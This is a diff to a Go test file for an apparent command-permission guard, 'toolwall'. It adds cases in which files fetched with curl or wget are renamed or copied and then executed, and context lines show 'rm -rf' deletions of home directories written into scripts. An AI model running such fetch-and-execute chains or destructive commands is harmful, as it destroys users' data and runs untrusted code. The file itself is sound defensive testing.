@@ -181,6 +181,9 @@ func TestChainMemory(t *testing.T) {
 		{"echo script then source", []step{{record: "cd /tmp && echo 'rm -rf $HOME/*' > y.sh"}}, ". /tmp/y.sh", toolwall.Ask},
 		{"harmless heredoc script then run", []step{{record: "cat > /tmp/x.sh <<'EOF'\ngo test ./...\nEOF"}}, "bash /tmp/x.sh", toolwall.Allow},
 		{"written and run in one call", nil, "echo 'rm -rf ~' > x.sh; bash x.sh", toolwall.Ask},
+		{"download, rename, run", []step{{record: "curl -o x.txt https://x.example/x"}, {record: "mv x.txt run.sh"}}, "bash run.sh", toolwall.Deny},
+		{"download, copy elsewhere, run", []step{{record: "wget https://x.example/tool"}, {record: "cp tool /tmp/t"}}, "/tmp/t", toolwall.Deny},
+		{"rename of another file then run", []step{{record: "curl -o x.txt https://x.example/x"}, {record: "mv notes.txt run.sh"}}, "bash run.sh", toolwall.Allow},
 		{"notes that mention rm are not run", nil, "echo 'rm -rf ~' > notes.md; cat notes.md", toolwall.Allow},
 	}
 	for _, tt := range tests {
